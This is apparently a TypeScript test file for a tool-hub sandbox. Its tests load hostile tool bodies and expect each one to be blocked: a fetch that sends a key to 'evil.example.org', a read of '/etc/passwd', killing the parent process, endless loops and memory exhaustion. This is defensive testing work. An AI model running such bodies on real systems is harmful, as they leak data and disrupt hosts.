import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { type HubTool, loadTool, pushPackage } from "@smoltools/hub";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { packageOf, testHub } from "./hub-fixture.ts";

let hub: Awaited<ReturnType<typeof testHub>>;
let count = 0;
beforeAll(async () => {
  hub = await testHub();
});
afterAll(async () => {
  await hub[Symbol.asyncDispose]();
});

/** Publishes a tool of this body and loads it. */
async function load(
  body: string,
  more: Parameters<typeof packageOf>[1] = {},
  options: Parameters<typeof hub.options>[0] = {},
): Promise<HubTool> {
  const name = `acme/hostile${count++}`;
  await pushPackage(hub.client(), packageOf(body, { name, ...more }));
  return loadTool(name, hub.options({ limits: { timeoutMs: 1000, memoryBytes: 32 * 1024 * 1024 }, ...options }));
}

describe("a published tool", () => {
  it.each<[title: string, body: string, code: string, message: RegExp]>([
    ["throws", "throw new RangeError('no such city')", "TOOL_FAILED", /no such city/],
    ["loops for ever", "for (;;) {}", "TOOL_TIMEOUT", /1000 ms|time/],
    ["never settles", "await new Promise(() => {})", "TOOL_TIMEOUT", /never settle|time/],
    ["exhausts memory", "const a = []; for (;;) a.push('x'.repeat(1e6) + a.length)", "TOOL_OUT_OF_MEMORY", /memory/],
    ["recurses without end", "const f = () => f() + 1; f()", "TOOL_OUT_OF_MEMORY", /recurs|deep|stack/i],
    [
      "calls a host that it did not declare",
      "await fetch('https://evil.example.org/?key=1')",
      "TOOL_PERMISSION_DENIED",
      /evil\.example\.org/,
    ],
    ["reads a file", "(await import('node:fs')).readFileSync('/etc/passwd')", "TOOL_FAILED", /node:fs/],
    ["looks for the process", "return process.kill(process.ppid)", "TOOL_FAILED", /not a function/],
  ])("that %s is reported by its code", async (_title, body, code, message) => {
    await using tool = await load(body);
    await expect(tool.call({})).rejects.toMatchObject({ code, message: expect.stringMatching(message) });
  });

  it("is denied its undeclared host even where it hides the error", async () => {
    await using tool = await load("try { await fetch('https://evil.example.org/') } catch {}\nreturn 'hidden'");
    expect(await tool.call({})).toBe("hidden");
  });

  it("works again after it failed", async () => {
    await using tool = await load("if (input.n === 0) for (;;) {}\nreturn input.n");
    await expect(tool.call({ n: 0 })).rejects.toMatchObject({ code: "TOOL_TIMEOUT" });
    expect(await tool.call({ n: 2 })).toBe(2);
  });

  it("sees no environment variable that it was not granted", async () => {
    const env = { MINE: "granted", SECRET: "hidden" };
    const options = { env, permissions: "declared" as const };
    await using tool = await load("return process.env", { permissions: { env: ["MINE"] } }, options);
    expect(await tool.call({})).toEqual({ MINE: "granted" });
  });

  it("does not load before its permissions are granted", async () => {
    const more = { permissions: { net: ["api.example.com"], env: ["KEY"] } };
    await expect(load("return 1", more)).rejects.toMatchObject({
      code: "PERMISSION_NOT_GRANTED",
      message: expect.stringContaining("net api.example.com, env KEY"),
    });
    await expect(load("return 1", more, { permissions: { net: ["api.example.com"] } })).rejects.toMatchObject({
      code: "PERMISSION_NOT_GRANTED",
    });
  });

  it("reaches a host that it declared and was granted", async () => {
    const server = createServer((_request, response) => response.end(JSON.stringify({ degrees: 21 })));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
    try {
      const body = `return (await (await fetch("http://${host}/")).json()).degrees`;
      await using tool = await load(body, { permissions: { net: [host] } }, { permissions: { net: [host] } });
      expect(await tool.call({})).toBe(21);
    } finally {
      server.closeAllConnections();
      server.close();
    }
  });

  it("does calls at the same time, each in a sandbox of its own", async () => {
    await using tool = await load(
      "globalThis.count = (globalThis.count ?? 0) + 1; await new Promise((r) => setTimeout(r, 20)); return input.n",
    );
    const results = await Promise.all([1, 2, 3, 4, 5, 6].map((n) => tool.call({ n })));
    expect(results).toEqual([1, 2, 3, 4, 5, 6]);
  });

  it("cannot return what its schema does not allow", async () => {
    const tools = [
      {
        name: "act",
        description: "Acts.",
        inputSchema: { type: "object" as const },
        outputSchema: { type: "string" as const },
      },
    ];
    await using tool = await load("return 3", { tools });
    await expect(tool.call({})).rejects.toMatchObject({ code: "TOOL_OUTPUT_INVALID" });
  });

  it("that asks for files or programs is refused by a sandbox that has none", async () => {
    await expect(
      load("return 1", { permissions: { read: ["data"] } }, { permissions: "declared" }),
    ).rejects.toMatchObject({ code: "RUNTIME_UNSUPPORTED" });
    await expect(load("return 1", { runtime: "node" })).rejects.toMatchObject({ code: "RUNTIME_UNSUPPORTED" });
  });
});
